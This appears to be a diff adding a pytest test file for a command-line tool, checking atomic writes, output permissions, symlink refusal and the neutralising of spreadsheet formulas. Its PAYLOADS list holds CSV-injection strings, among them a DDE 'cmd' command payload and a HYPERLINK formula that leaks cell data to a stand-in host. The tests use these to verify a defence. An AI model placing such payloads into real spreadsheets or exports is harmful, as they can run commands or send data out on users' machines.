@@ -1,0 +1,163 @@
+"""Nothing lost, nothing active: outputs are atomic, never over an input, never formulas."""
+
+from __future__ import annotations
+
+import csv
+import io
+import os
+import stat
+import sys
+import zipfile
+from pathlib import Path
+
+import openpyxl
+import pytest
+from typer.testing import CliRunner
+
+from inspect_cli.cli import app
+from inspect_cli.errors import OutputError
+from inspect_cli.frameworks import Framework
+from inspect_cli.safe_write import write_atomic
+
+from .builders import case_table, set_cell, write_csv
+from .conftest import SAMPLES
+
+runner = CliRunner(env={"COLUMNS": "250", "NO_COLOR": "1"})
+PAYLOADS = [
+    '=HYPERLINK("http://x/?"&A1,"y")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-1+1",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "=",
+]
+
+
+def test_a_failed_write_leaves_the_previous_output_and_no_temp_file(tmp_path: Path) -> None:
+    target = tmp_path / "report.html"
+    target.write_text("previous report", encoding="utf-8")
+
+    def crash(tmp: Path) -> None:
+        tmp.write_text("half a rep", encoding="utf-8")
+        raise RuntimeError("fault injected while writing")
+
+    with pytest.raises(RuntimeError):
+        write_atomic(target, crash)
+    assert target.read_text(encoding="utf-8") == "previous report"
+    assert [p.name for p in tmp_path.iterdir()] == ["report.html"]
+
+
+def test_a_crash_inside_a_report_writer_leaves_nothing(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    import inspect_cli.render.excel_report as excel
+
+    def explode(*args: object) -> None:
+        raise RuntimeError("fault injected after the first sheet")
+
+    monkeypatch.setattr(excel, "write_thematic_xlsx", explode)
+    result = runner.invoke(
+        app, ["report", "thematic", str(SAMPLES), "-o", str(tmp_path / "t.xlsx")]
+    )
+    assert result.exit_code == 70  # an internal error, reported without a traceback
+    assert "Traceback" not in result.stderr
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_a_locked_target_says_close_it_in_excel(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    target = tmp_path / "scored.xlsx"
+
+    def locked(src: object, dst: object) -> None:
+        raise PermissionError(13, "The process cannot access the file")
+
+    monkeypatch.setattr(os, "replace", locked)
+    with pytest.raises(OutputError) as info:
+        write_atomic(target, lambda tmp: tmp.write_bytes(b"x"))
+    assert "close it" in " ".join(info.value.details)
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_an_unwritable_folder_is_a_clear_error(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    import tempfile
+
+    def refuse(*args: object, **kwargs: object) -> tuple[int, str]:
+        raise PermissionError(13, "Permission denied")
+
+    monkeypatch.setattr(tempfile, "mkstemp", refuse)  # as a read-only folder would
+    result = runner.invoke(app, ["score", str(SAMPLES), "-o", str(tmp_path / "s.csv")])
+    assert result.exit_code == 1 and "cannot write" in result.stderr
+    assert list(tmp_path.iterdir()) == []
+
+
+@pytest.mark.skipif(sys.platform == "win32", reason="POSIX permissions")
+def test_outputs_are_readable_only_by_their_owner(tmp_path: Path) -> None:
+    target = tmp_path / "s.csv"
+    assert runner.invoke(app, ["score", str(SAMPLES), "-o", str(target)]).exit_code == 0
+    assert stat.S_IMODE(target.stat().st_mode) == 0o600
+
+
+def test_symlink_to_an_input_is_refused(tmp_path: Path) -> None:
+    src = tmp_path / "cases.csv"
+    src.write_bytes((SAMPLES / "force_h.csv").read_bytes())
+    link = tmp_path / "out.csv"
+    link.symlink_to(src)
+    before = src.read_bytes()
+    result = runner.invoke(app, ["score", str(src), "-o", str(link), "--overwrite"])
+    assert result.exit_code == 2 and "one of the inputs" in result.stderr
+    assert src.read_bytes() == before
+
+
+def _cases_with_payloads(fw: Framework, tmp_path: Path) -> Path:
+    table = case_table(fw, len(PAYLOADS))
+    for i, payload in enumerate(PAYLOADS):
+        set_cell(table, i + 2, "Case reference", payload)
+        set_cell(table, i + 2, "Auditor", payload)
+    # CSV, so the payloads arrive as text (a workbook would hold them as formulas).
+    return write_csv(tmp_path / "cases.csv", table)
+
+
+def test_formula_payloads_in_cases_never_become_formulas(fw: Framework, tmp_path: Path) -> None:
+    src = _cases_with_payloads(fw, tmp_path)
+    xlsx, csv_out = tmp_path / "s.xlsx", tmp_path / "s.csv"
+    assert runner.invoke(app, ["score", str(src), "-o", str(xlsx)]).exit_code == 0
+    assert runner.invoke(app, ["score", str(src), "-o", str(csv_out)]).exit_code == 0
+    with zipfile.ZipFile(xlsx) as z:
+        for name in z.namelist():
+            if name.startswith("xl/worksheets/"):
+                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name)
+    sheet = openpyxl.load_workbook(xlsx)["Scored cases"]
+    refs = {sheet.cell(r, 1).value for r in range(2, sheet.max_row + 1)}
+    assert {p.strip() for p in PAYLOADS} <= {str(v).strip() for v in refs}
+    rows = list(csv.reader(io.StringIO(csv_out.read_text(encoding="utf-8-sig"))))
+    for row in rows[1:]:
+        assert not row[0].startswith(("=", "+", "-", "@", "\t")), row[0]  # OWASP quote prefix
+
+
+def test_control_characters_and_huge_text_do_not_break_outputs(
+    fw: Framework, tmp_path: Path
+) -> None:
+    table = case_table(fw, 2)
+    set_cell(table, 2, "Auditor", "bell\x07 and tab\x0b")
+    src = write_csv(tmp_path / "cases.csv", table)
+    target = tmp_path / "s.xlsx"
+    result = runner.invoke(app, ["score", str(src), "-o", str(target)])
+    assert result.exit_code == 0, result.stderr
+    assert openpyxl.load_workbook(target)["Scored cases"]["E2"].value == "bell and tab"
+
+
+def test_same_input_gives_the_same_report_content(tmp_path: Path) -> None:
+    outputs = []
+    for name in ("a.json", "b.json"):
+        target = tmp_path / name
+        assert (
+            runner.invoke(app, ["report", "thematic", str(SAMPLES), "-o", str(target)]).exit_code
+            == 0
+        )
+        text = target.read_text(encoding="utf-8")
+        outputs.append("\n".join(line for line in text.splitlines() if '"created"' not in line))
+    assert outputs[0] == outputs[1]
